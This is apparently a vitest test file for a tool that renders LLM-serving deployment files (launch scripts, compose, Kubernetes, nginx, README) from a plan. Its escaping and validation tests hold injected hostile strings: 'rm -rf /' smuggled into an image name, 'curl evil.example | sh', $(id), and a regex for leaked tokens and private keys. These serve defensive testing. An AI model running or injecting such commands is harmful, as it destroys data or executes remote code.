// render (src/render): every number comes from the plan, the engines' command lines, security levels,
// pinned images, secrets by reference only, hostile strings escaped for each file; and the plan
// reader (src/cli/render.ts). The writer has its own tests (writer.test.ts).
import { describe, expect, it } from "vitest";
import { parse, parseAllDocuments } from "yaml";
import { engineModule } from "../../src/engines/index.js";
import { checkPlan } from "../../src/cli/render.js";
import { gfdProductLabel } from "../../src/render/k8s.js";
import { UserError } from "../../src/errors.js";
import type { EngineName, Plan } from "../../src/contract/plan.js";
import { engineCommand, PINNED_IMAGES, type RenderedFile } from "../../src/render/index.js";
import { isPinnedImage } from "../../src/render/images.js";
import { fillTemplate, mdCell, mdCode, shellQuote } from "../../src/render/template.js";
import { k8sExpand, loadFixture, renderPlan, variant } from "../tools/render.js";

const byPath = (files: RenderedFile[]) => new Map(files.map((f) => [f.path, f.content]));
const file = (files: RenderedFile[], path: string): string => {
  const f = files.find((x) => x.path === path);
  if (!f) throw new Error(`${path} not rendered; got ${files.map((x) => x.path).join(", ")}`);
  return f.content;
};
const yamlOf = (files: RenderedFile[], path: string) => parse(file(files, path));

/** The words of the rendered `args=( ... )` array, unquoted as bash would (single quotes only). */
function scriptArgs(script: string): string[] {
  const body = /\nargs=\(\n([\s\S]*?)\n\)\n/.exec(script)?.[1];
  if (body === undefined) throw new Error("no args=( ... ) in the script");
  const words: string[] = [];
  const re = /\s*((?:'[^']*'|\\'|[^\s'\\])+)/gy;
  let m: RegExpExecArray | null;
  while ((m = re.exec(body)) !== null) {
    words.push(
      m[1]!.replace(/'([^']*)'|\\(')/g, (_x, q: string | undefined, e: string | undefined) => q ?? e ?? ""),
    );
  }
  return words;
}

const flag = (args: string[], name: string) => {
  const i = args.indexOf(name);
  return i < 0 ? undefined : args[i + 1];
};

describe("template helpers", () => {
  it("fills values and sections; an unknown name is an error, not an empty string", () => {
    const t = "a {{x}}\n{{#on}}\nyes {{x}}\n{{/on}}\n{{^on}}\nno\n{{/on}}\nend\n";
    expect(fillTemplate("t", t, { x: 1, on: true })).toBe("a 1\nyes 1\nend\n");
    expect(fillTemplate("t", t, { x: 2, on: false })).toBe("a 2\nno\nend\n");
    expect(() => fillTemplate("t", "{{missing}}", {})).toThrow(/unknown value \{\{missing\}\}/);
    expect(() => fillTemplate("t", "{{#nope}}x{{/nope}}", {})).toThrow(/unknown section/);
  });

  it("shellQuote leaves plain words alone and single-quotes the rest", () => {
    expect(shellQuote("Qwen/Qwen2.5-7B-Instruct")).toBe("Qwen/Qwen2.5-7B-Instruct");
    expect(shellQuote("it's $(id)")).toBe(`'it'\\''s $(id)'`);
    expect(shellQuote("")).toBe("''");
  });

  it("Markdown code stays on one line, and inside a table cell keeps the cell whole", () => {
    expect(mdCode("a\nb `c`")).toBe("`a b 'c'`");
    expect(mdCell("x | y")).toBe("`x \\| y`");
  });
});

describe("every number comes from the plan", () => {
  it("the vLLM launch script carries TP, PP, max model len, memory utilisation, batch limits, port", () => {
    for (const name of ["standalone", "single-node-tp4", "multi-node"] as const) {
      const plan = loadFixture(name);
      const e = plan.recommendation.engine;
      const args = scriptArgs(file(renderPlan(plan), "launch-vllm.sh"));
      expect(args.slice(0, 2)).toEqual(["serve", e.modelRef]);
      expect(flag(args, "--tensor-parallel-size")).toBe(String(plan.recommendation.tensorParallel));
      expect(flag(args, "--pipeline-parallel-size")).toBe(String(plan.recommendation.pipelineParallel));
      expect(flag(args, "--max-model-len")).toBe(String(e.maxModelLen));
      expect(flag(args, "--gpu-memory-utilization")).toBe(String(e.gpuMemoryUtilization));
      expect(flag(args, "--max-num-seqs")).toBe(String(e.maxNumSeqs));
      expect(flag(args, "--max-num-batched-tokens")).toBe(String(e.maxNumBatchedTokens));
      expect(flag(args, "--served-model-name")).toBe(e.servedModelName);
      expect(flag(args, "--port")).toBe(String(plan.spec.port));
      // removed from vLLM: never written
      expect(args).not.toContain("--swap-space");
      expect(args).not.toContain("--disable-log-requests");
    }
  });

  it("changing a number in the plan changes it in every file, and the old value is gone", () => {
    const base = loadFixture("single-node-tp4");
    const before = renderPlan(base);
    // distinctive values that appear nowhere else
    const plan = variant(base, (p) => {
      p.spec.port = 9137;
      p.recommendation.engine.maxModelLen = 12347;
      p.recommendation.host.shmGiB = 23;
      p.recommendation.replicas = 3;
    });
    const after = renderPlan(plan);
    const all = after.map((f) => f.content).join("\n");
    expect(before.map((f) => f.content).join("\n")).toContain("8000");
    expect(all).not.toMatch(/\b8000\b/);
    expect(all).not.toMatch(/\b8192\b/);
    const dep = yamlOf(after, "k8s/statefulset.yaml");
    const pod = dep.spec.template.spec;
    const engine = pod.containers[0];
    expect(dep.spec.replicas).toBe(3);
    expect(engine.ports[0].containerPort).toBe(9137);
    expect(flag(engine.args, "--port")).toBe("9137");
    expect(flag(engine.args, "--max-model-len")).toBe("12347");
    expect(flag(engine.args, "--tensor-parallel-size")).toBe("4");
    expect(engine.resources.limits["nvidia.com/gpu"]).toBe("4");
    expect(pod.volumes.find((v: { name: string }) => v.name === "dshm").emptyDir).toEqual({
      medium: "Memory",
      sizeLimit: "23Gi",
    });
    expect(yamlOf(after, "k8s/keda-scaledobject.yaml").spec).toMatchObject({
      minReplicaCount: 3,
      maxReplicaCount: 6,
    });
    expect(yamlOf(after, "k8s/headless-service.yaml").spec.ports[0].port).toBe(9137);
    expect(file(after, "Dockerfile")).toMatch(/^EXPOSE 9137$/m);
    expect(file(after, "nginx/nginx.conf")).toContain(
      "server engine-0:9137;\n    server engine-1:9137;\n    server engine-2:9137;",
    );
    expect(yamlOf(after, "monitoring/prometheus.yml").scrape_configs[0].dns_sd_configs[0].port).toBe(9137);
    expect(flag(scriptArgs(file(after, "launch-vllm.sh")), "--max-model-len")).toBe("12347");
  });

  it("compose: GPUs reserved as the plan counts them, /dev/shm from the plan, a long health start", () => {
    const plan = loadFixture("standalone");
    const engine = yamlOf(renderPlan(plan), "compose.yaml").services.engine;
    expect(engine.deploy.resources.reservations.devices).toEqual([
      { driver: "nvidia", capabilities: ["gpu"], count: plan.recommendation.gpusPerNode },
    ]);
    expect(engine.shm_size).toBe(`${plan.recommendation.host.shmGiB}gb`);
    expect(engine.healthcheck.start_period).toBe("30m");
    // several replicas on one host: each its own GPUs, nginx balances over all of them
    const two = renderPlan(
      variant(loadFixture("single-node-tp4"), (p) => {
        p.spec.packaging = "compose";
        p.recommendation.replicas = 2;
      }),
    );
    const c = yamlOf(two, "compose.yaml");
    expect(c.services["engine-0"].deploy.resources.reservations.devices[0].device_ids).toEqual([
      "0",
      "1",
      "2",
      "3",
    ]);
    expect(c.services["engine-1"].deploy.resources.reservations.devices[0].device_ids).toEqual([
      "4",
      "5",
      "6",
      "7",
    ]);
    expect(Object.keys(c.services.nginx.depends_on)).toEqual(["engine-0", "engine-1"]);
    expect(file(two, "nginx/nginx.conf")).toContain("server engine-0:8000;\n    server engine-1:8000;");
    // ...and the README says the host needs every replica's GPUs (2 × 4 = 8); one replica says nothing
    expect(file(two, "README.md")).toContain("1. This host runs all 2 replicas: it needs 8 GPUs (2 × 4)");
    expect(file(renderPlan(plan), "README.md")).not.toContain("This host runs all");
  });

  it("the alerts hold the engine to the plan's targets and sizes", () => {
    const plan = loadFixture("standalone");
    const rules = yamlOf(renderPlan(plan), "monitoring/alerts.yml").groups[0].rules as {
      alert: string;
      expr: string;
      annotations: { description?: string };
    }[];
    const ttft = rules.find((r) => r.alert === "LLMTimeToFirstTokenP95OverTarget")!;
    expect(ttft.expr).toContain(`> ${plan.spec.targets.ttftMs! / 1000}`);
    expect(ttft.expr).toContain("vllm:time_to_first_token_seconds_bucket");
    const kv = rules.find((r) => r.alert === "LLMKVCacheNearlyFull")!;
    expect(kv.expr).toContain("vllm:kv_cache_usage_perc");
    expect(kv.expr).not.toContain("vllm:gpu_cache_usage_perc");
    expect(kv.annotations.description).toContain(String(plan.recommendation.memory.kvCacheTokens));
    expect(rules.find((r) => r.alert === "LLMQueueGrowing")!.expr).toContain("vllm:num_requests_waiting");
  });
});

describe("engines", () => {
  const standalone = loadFixture("standalone");
  const as = (name: EngineName, change?: (p: Plan) => void) =>
    variant(standalone, (p) => {
      p.recommendation.engine.name = name;
      change?.(p);
    });

  it("each engine gets its own launch script with its own flags", () => {
    const cases: [EngineName, string, string[]][] = [
      ["sglang", "launch-sglang.sh", ["-m", "sglang.launch_server", "--tp-size", "--context-length"]],
      ["trtllm", "launch-trtllm.sh", ["--tp_size", "--max_seq_len", "--max_batch_size"]],
      ["tgi", "launch-tgi.sh", ["--num-shard", "--max-total-tokens"]],
      ["llamacpp", "launch-llamacpp.sh", ["--ctx-size", "--parallel", "--n-gpu-layers"]],
      ["ollama", "launch-ollama.sh", ["serve"]],
    ];
    for (const [engine, script, expected] of cases) {
      const files = renderPlan(as(engine));
      const args = scriptArgs(file(files, script));
      for (const a of expected) expect(args, `${engine}: ${a}`).toContain(a);
      expect(files.some((f) => f.path === "launch-vllm.sh")).toBe(false);
    }
    const trt = scriptArgs(file(renderPlan(as("trtllm")), "launch-trtllm.sh"));
    expect(trt[0]).toBe(standalone.recommendation.engine.modelRef);
    // llama.cpp: the context is shared by the slots
    const llama = scriptArgs(file(renderPlan(as("llamacpp")), "launch-llamacpp.sh"));
    const e = standalone.recommendation.engine;
    expect(flag(llama, "--ctx-size")).toBe(String(e.maxModelLen * e.maxNumSeqs));
    expect(flag(llama, "--parallel")).toBe(String(e.maxNumSeqs));
  });

  it("fp8 KV cache, quantization and half precision reach the vLLM flags", () => {
    const args = scriptArgs(
      file(
        renderPlan(
          variant(standalone, (p) => {
            p.recommendation.engine.kvCacheDtype = "fp8";
            p.recommendation.engine.quantization = "fp8";
            p.recommendation.engine.dtype = "half";
          }),
        ),
        "launch-vllm.sh",
      ),
    );
    expect(flag(args, "--kv-cache-dtype")).toBe("fp8");
    expect(flag(args, "--quantization")).toBe("fp8");
    expect(flag(args, "--dtype")).toBe("half");
  });

  it("Ollama has no metrics: no monitoring files, no HPA; llama.cpp has no KV cache alert", () => {
    const ollama = renderPlan(as("ollama", (p) => (p.spec.packaging = "kubernetes")));
    expect(ollama.some((f) => f.path.startsWith("monitoring/"))).toBe(false);
    expect(ollama.some((f) => f.path === "k8s/hpa.yaml")).toBe(false);
    const llama = yamlOf(renderPlan(loadFixture("llamacpp-gguf")), "monitoring/alerts.yml");
    const names = llama.groups[0].rules.map((r: { alert: string }) => r.alert);
    expect(names).toContain("LLMQueueGrowing");
    expect(names).not.toContain("LLMKVCacheNearlyFull");
  });

  it("a GGUF file on the host is mounted read-only and loaded by its own path", () => {
    const plan = loadFixture("llamacpp-gguf");
    const files = renderPlan(plan);
    const gguf = plan.recommendation.engine.modelRef;
    expect(flag(scriptArgs(file(files, "launch-llamacpp.sh")), "--model")).toBe(gguf);
    expect(yamlOf(files, "compose.yaml").services.engine.volumes).toContainEqual({
      type: "bind",
      source: gguf,
      target: gguf,
      read_only: true,
    });
    // without a local file, the README says where to put it
    const hub = renderPlan(
      variant(plan, (p) => {
        p.recommendation.engine.modelRef = "meta-llama/Llama-3.1-8B-Instruct";
        p.model.hfId = "meta-llama/Llama-3.1-8B-Instruct";
      }),
    );
    expect(flag(scriptArgs(file(hub, "launch-llamacpp.sh")), "--model")).toBe(
      "/models/Llama-3.1-8B-Instruct-Q4_K_M.gguf",
    );
    expect(file(hub, "README.md")).toContain("/models/Llama-3.1-8B-Instruct-Q4_K_M.gguf");
  });

  it("across nodes: every node runs the same script with its rank and node 0's address (no Ray)", () => {
    const plan = loadFixture("multi-node");
    const files = renderPlan(plan);
    const script = file(files, "launch-vllm.sh");
    const args = scriptArgs(script);
    expect(flag(args, "--nnodes")).toBe(String(plan.recommendation.nodes));
    expect(args).not.toContain("--distributed-executor-backend");
    expect(script).not.toMatch(/\bray\b/);
    expect(script).toContain(
      'args+=(--node-rank "${node_rank}" --master-addr "${leader}" --master-port 29501)',
    );
    expect(script).toContain("args+=(--headless)");
    expect(files.some((f) => f.path === "ray-worker.sh")).toBe(false);
    const lws = yamlOf(files, "k8s/leaderworkerset.yaml");
    expect(lws.apiVersion).toBe("leaderworkerset.x-k8s.io/v1");
    expect(lws.spec.leaderWorkerTemplate.size).toBe(plan.recommendation.nodes);
    expect(lws.spec.replicas).toBe(plan.recommendation.replicas);
    // the model cache is a claim per pod, sized from the checkpoint
    expect(lws.spec.leaderWorkerTemplate.volumeClaimTemplates[0].spec.resources.requests.storage).toBe(
      `${plan.recommendation.host.diskGiB}Gi`,
    );
    const leader = lws.spec.leaderWorkerTemplate.leaderTemplate.spec.containers[0];
    expect(leader.command).toEqual(["/bin/bash", "/opt/llmdeploy/launch-vllm.sh"]);
    expect(leader.resources.limits["nvidia.com/gpu"]).toBe(String(plan.recommendation.gpusPerNode));
    expect(leader.securityContext.capabilities.add).toEqual(["IPC_LOCK"]);
    const worker = lws.spec.leaderWorkerTemplate.workerTemplate.spec.containers[0];
    expect(worker.command).toEqual(["/bin/bash", "/opt/llmdeploy/launch-vllm.sh"]);
    const scripts = yamlOf(files, "k8s/scripts-configmap.yaml").data;
    expect(Object.keys(scripts)).toEqual(["launch-vllm.sh"]);
    expect(scripts["launch-vllm.sh"]).toBe(script);
    expect(yamlOf(files, "k8s/keda-scaledobject.yaml").spec.scaleTargetRef.kind).toBe("LeaderWorkerSet");
    // compose across nodes: host networking; node 0 and a worker compose file with the rank
    const compose = renderPlan(variant(plan, (p) => (p.spec.packaging = "compose")));
    const c0 = yamlOf(compose, "compose.yaml").services.engine;
    expect(c0.network_mode).toBe("host");
    expect(c0.environment.NODE_RANK).toBe("0");
    const w = yamlOf(compose, "compose.worker.yaml").services.worker;
    expect(w.entrypoint).toBeUndefined();
    expect(w.environment.NODE_RANK).toMatch(/^\$\{NODE_RANK:\?/);
    expect(w.environment.LEADER_ADDRESS).toMatch(/^\$\{LEADER_ADDRESS:\?/);
    const sglang = renderPlan(variant(plan, (p) => (p.recommendation.engine.name = "sglang")));
    const sg = file(sglang, "launch-sglang.sh");
    expect(flag(scriptArgs(sg), "--nnodes")).toBe("2");
    expect(sg).toContain('args+=(--node-rank "${node_rank}" --dist-init-addr "${leader}:5000")');
    expect(sg).not.toContain("--headless");
  });

  it("engines that cannot span nodes say so", () => {
    const plan = variant(loadFixture("multi-node"), (p) => (p.recommendation.engine.name = "trtllm"));
    expect(() => renderPlan(plan)).toThrow(UserError);
    expect(() => renderPlan(plan)).toThrow(/trtllm cannot run one replica across 2 nodes/);
  });
});

describe("images are pinned", () => {
  it("an empty engine image falls back to the catalog's pin (the CPU build on a CPU host)", () => {
    const gpu = variant(loadFixture("standalone"), (p) => (p.recommendation.engine.image = ""));
    expect(file(renderPlan(gpu), "Dockerfile")).toContain(`FROM ${engineModule("vllm").image.image}\n`);
    const cpu = variant(loadFixture("llamacpp-gguf"), (p) => {
      p.recommendation.engine.image = "";
      p.recommendation.deviceKind = "cpu";
    });
    const files = renderPlan(cpu);
    expect(file(files, "Dockerfile")).toContain(`FROM ${engineModule("llamacpp").image.cpuImage}\n`);
    expect(yamlOf(files, "compose.yaml").services.engine.deploy).toBeUndefined();
  });

  it("latest or untagged engine images are refused", () => {
    for (const image of ["vllm/vllm-openai:latest", "vllm/vllm-openai", "vllm/vllm-openai:v1 ; rm -rf /"]) {
      const plan = variant(loadFixture("standalone"), (p) => (p.recommendation.engine.image = image));
      expect(() => renderPlan(plan), image).toThrow(/not a pinned image/);
    }
    expect(isPinnedImage("nvcr.io/nvidia/tensorrt-llm/release:1.2.1")).toBe(true);
    expect(isPinnedImage(`nginx@sha256:${"a".repeat(64)}`)).toBe(true);
    expect(isPinnedImage("registry.local:5000/vllm")).toBe(false);
  });

  it("every image in every rendered file is pinned", () => {
    for (const img of Object.values(PINNED_IMAGES)) expect(isPinnedImage(img.image)).toBe(true);
    for (const name of ["standalone", "single-node-tp4", "multi-node", "llamacpp-gguf"] as const) {
      for (const f of renderPlan(loadFixture(name))) {
        for (const m of f.content.matchAll(/^\s*(?:-\s+)?image: (\S+)$/gm)) {
          if (m[1]!.startsWith("llmdeploy/")) continue; // the image compose builds from the Dockerfile
          expect(isPinnedImage(m[1]!), `${name}/${f.path}: ${m[1]}`).toBe(true);
        }
      }
    }
  });
});

describe("security levels", () => {
  const at = (security: Plan["spec"]["security"], packaging: Plan["spec"]["packaging"]) =>
    renderPlan(
      variant(loadFixture("standalone"), (p) => {
        p.spec.security = security;
        p.spec.packaging = packaging;
      }),
    );

  it("basic: API keys only", () => {
    const files = at("basic", "compose");
    const nginx = file(files, "nginx/nginx.conf");
    expect(nginx).toContain("map $http_authorization $llm_key_ok");
    expect(nginx).not.toMatch(/ssl_|limit_req/);
    expect(yamlOf(files, "compose.yaml").services.engine.read_only).toBeUndefined();
  });

  it("enhanced: TLS with a redirect, a rate limit with 429, read-only and capability-free containers", () => {
    const files = at("enhanced", "compose");
    const nginx = file(files, "nginx/nginx.conf");
    expect(nginx).toContain("ssl_protocols TLSv1.2 TLSv1.3;");
    expect(nginx).toContain("return 301 https://$host$request_uri;");
    expect(nginx).toContain("limit_req_status 429;");
    const c = yamlOf(files, "compose.yaml");
    expect(c.services.engine).toMatchObject({ read_only: true, cap_drop: ["ALL"] });
    expect(c.services.nginx).toMatchObject({ read_only: true, cap_drop: ["ALL"] });
    const k8s = at("enhanced", "kubernetes");
    const engine = yamlOf(k8s, "k8s/statefulset.yaml").spec.template.spec.containers[0];
    expect(engine.securityContext).toMatchObject({
      readOnlyRootFilesystem: true,
      allowPrivilegeEscalation: false,
      capabilities: { drop: ["ALL"] },
    });
    expect(k8s.some((f) => f.path === "k8s/networkpolicy.yaml")).toBe(false);
  });

  it("enterprise: NetworkPolicy, mTLS-ready, JSON audit log, an internal network in compose", () => {
    const k8s = at("enterprise", "kubernetes");
    expect(yamlOf(k8s, "k8s/networkpolicy.yaml").kind).toBe("NetworkPolicy");
    const nginx = file(k8s, "nginx/nginx.conf");
    expect(nginx).toContain("ssl_verify_client optional;");
    expect(nginx).toContain("log_format llm_audit escape=json");
    const c = yamlOf(at("enterprise", "compose"), "compose.yaml");
    expect(c.networks.internal).toEqual({ internal: true });
    expect(c.services.engine.networks).toEqual(["internal", "egress"]);
    expect(c.services.engine.ports).toBeUndefined();
  });
});

describe("secrets are referenced, never written", () => {
  it("compose reads the token from a secret file; Kubernetes from a Secret; no file holds a value", () => {
    const compose = renderPlan(loadFixture("standalone"));
    const c = yamlOf(compose, "compose.yaml");
    expect(c.secrets).toEqual({ hf_token: { file: "./secrets/hf_token" } });
    expect(c.services.engine.environment.HF_TOKEN_FILE).toBe("/run/secrets/hf_token");
    const k8s = renderPlan(loadFixture("single-node-tp4"));
    const env = yamlOf(k8s, "k8s/statefulset.yaml").spec.template.spec.containers[0].env;
    expect(env.find((e: { name: string }) => e.name === "HF_TOKEN")).toEqual({
      name: "HF_TOKEN",
      valueFrom: { secretKeyRef: { name: "llama-3-3-70b-hf-token", key: "token", optional: true } },
    });
    for (const f of [...compose, ...k8s]) {
      expect(f.content, f.path).not.toMatch(/hf_[A-Za-z0-9]{20,}|sk-[0-9a-f]{20,}|BEGIN [A-Z ]*PRIVATE KEY/);
      expect(f.path).not.toMatch(/^secrets\/(hf_token|api-keys\.map)$/);
    }
  });
});

describe("hostile plan strings are escaped for each file", () => {
  const plan = loadFixture("hostile");
  const e = plan.recommendation.engine;

  it("bash: every hostile string is one literal word", () => {
    for (const packaging of ["compose", "kubernetes"] as const) {
      const files = renderPlan(variant(plan, (p) => (p.spec.packaging = packaging)));
      const args = scriptArgs(file(files, "launch-vllm.sh"));
      expect(args[1]).toBe(e.modelRef);
      expect(flag(args, "--served-model-name")).toBe(e.servedModelName);
    }
  });

  it("YAML: compose and Kubernetes hold the exact strings (compose with $ doubled for interpolation)", () => {
    const compose = yamlOf(renderPlan(plan), "compose.yaml");
    const bind = compose.services.engine.volumes[1];
    expect(bind.source.replace(/\$\$/g, "$")).toBe(e.modelRef);
    expect(bind.source).not.toMatch(/(^|[^$])\$\(/);
    const k8s = renderPlan(variant(plan, (p) => (p.spec.packaging = "kubernetes")));
    const container = yamlOf(k8s, "k8s/statefulset.yaml").spec.template.spec.containers[0];
    // Kubernetes expands $(VAR) in args and env values and reads $$ as a literal $ (k8sExpand does
    // the same): what the engine receives is the plan's exact string, never a secret.
    const env = { HF_TOKEN: "secret-token", HOME: "/tmp" };
    const args = (container.args as string[]).map((a) => k8sExpand(a, env));
    expect(args[1]).toBe(e.modelRef);
    expect(flag(args, "--served-model-name")).toBe(e.servedModelName);
    expect(JSON.stringify(args)).not.toContain("secret-token");
    for (const f of k8s.filter((x) => x.path.endsWith(".yaml"))) {
      expect(() => parseAllDocuments(f.content).map((d) => d.toJS()), f.path).not.toThrow();
    }
  });

  it("one-line comments, Dockerfile instructions, nginx directives and Markdown stay intact", () => {
    const files = renderPlan(plan);
    const docker = file(files, "Dockerfile").split("\n");
    for (const line of docker) {
      expect(line, line).toMatch(/^(#.*|[A-Z]+ .*| .*|)$/);
    }
    const nginx = file(files, "nginx/nginx.conf");
    for (const line of nginx.split("\n").filter((l) => !l.trim().startsWith("#"))) {
      expect(line, line).not.toMatch(/Evil|pwned|served name|GPU/);
    }
    const readme = file(files, "README.md");
    expect(readme).toContain("| cost | $1.60/h (`price 'curl evil.example \\| sh' $(id)");
    expect(readme.split("\n").filter((l) => l.startsWith("#")).length).toBe(5); // title, The plan, Start it, Monitoring, Files;
    for (const f of files) {
      for (const line of f.content.split("\n").filter((l) => l.startsWith("# "))) {
        expect(line, `${f.path}: ${line}`).not.toMatch(/\r/);
      }
    }
  });
});

describe("checkPlan: one clear line for a bad plan file", () => {
  const good = loadFixture("standalone");
  const fails = (raw: unknown) => {
    try {
      checkPlan(raw, "plan.yaml");
    } catch (err) {
      expect(err).toBeInstanceOf(UserError);
      return (err as UserError).message;
    }
    throw new Error("expected a UserError");
  };

  it("names what is wrong", () => {
    expect(checkPlan(structuredClone(good), "plan.yaml")).toEqual(good);
    expect(fails("just a string")).toMatch(/not a plan/);
    expect(fails({ apiVersion: "v1", kind: "ConfigMap" })).toMatch(/not an llmdeploy\/v1 Plan/);
    expect(fails(variant(good, (p) => delete (p as Partial<Plan>).recommendation))).toMatch(
      /recommendation is missing/,
    );
    expect(
      fails(
        variant(
          good,
          (p) => ((p.recommendation as unknown as { tensorParallel: string }).tensorParallel = "4"),
        ),
      ),
    ).toMatch(/recommendation\.tensorParallel: /);
    expect(fails(variant(good, (p) => (p.recommendation.engine.image = "vllm/vllm-openai:latest")))).toMatch(
      /recommendation\.engine\.image: must be a pinned image/,
    );
    expect(fails(variant(good, (p) => (p.spec.serviceName = "Bad Name")))).toMatch(
      /spec\.serviceName: must be a DNS label/,
    );
    expect(
      checkPlan(
        variant(good, (p) => (p.recommendation.engine.image = "")),
        "x",
      ),
    ).toBeTruthy();
  });
});

describe("engineCommand", () => {
  it("is the same command line Kubernetes runs directly", () => {
    const plan = loadFixture("single-node-tp4");
    const files = renderPlan(plan);
    const engine = yamlOf(files, "k8s/statefulset.yaml").spec.template.spec.containers[0];
    const cmd = engineCommand(plan);
    expect(engine.command).toEqual([cmd.program]);
    expect(engine.args).toEqual(cmd.args);
    expect(scriptArgs(file(files, "launch-vllm.sh"))).toEqual(cmd.args);
    expect(byPath(files).size).toBe(files.length);
  });
});

describe("Kubernetes node selection", () => {
  it("GPU Feature Discovery's label value: NVIDIA's sanitise() of the product name", () => {
    // internal/lm/resource.go: drop [^A-Za-z0-9-_. ], join the words with "-"
    expect(gfdProductLabel("NVIDIA H100 80GB HBM3")).toBe("NVIDIA-H100-80GB-HBM3");
    expect(gfdProductLabel("NVIDIA A100-SXM4-80GB")).toBe("NVIDIA-A100-SXM4-80GB");
    expect(gfdProductLabel("NVIDIA  GeForce (RTX) 3090")).toBe("NVIDIA-GeForce-RTX-3090");
  });
  it("the pod selects nodes with the planned GPU when the catalog knows its product name", () => {
    const plan = variant(loadFixture("standalone"), (p) => {
      p.spec.packaging = "kubernetes";
      p.recommendation.gpuProduct = "NVIDIA L4";
    });
    const pod = yamlOf(renderPlan(plan), "k8s/statefulset.yaml").spec.template.spec;
    expect(pod.nodeSelector).toEqual({ "nvidia.com/gpu.product": "NVIDIA-L4" });
    const none = yamlOf(
      renderPlan(variant(plan, (p) => delete p.recommendation.gpuProduct)),
      "k8s/statefulset.yaml",
    );
    expect(none.spec.template.spec.nodeSelector).toBeUndefined();
  });
});
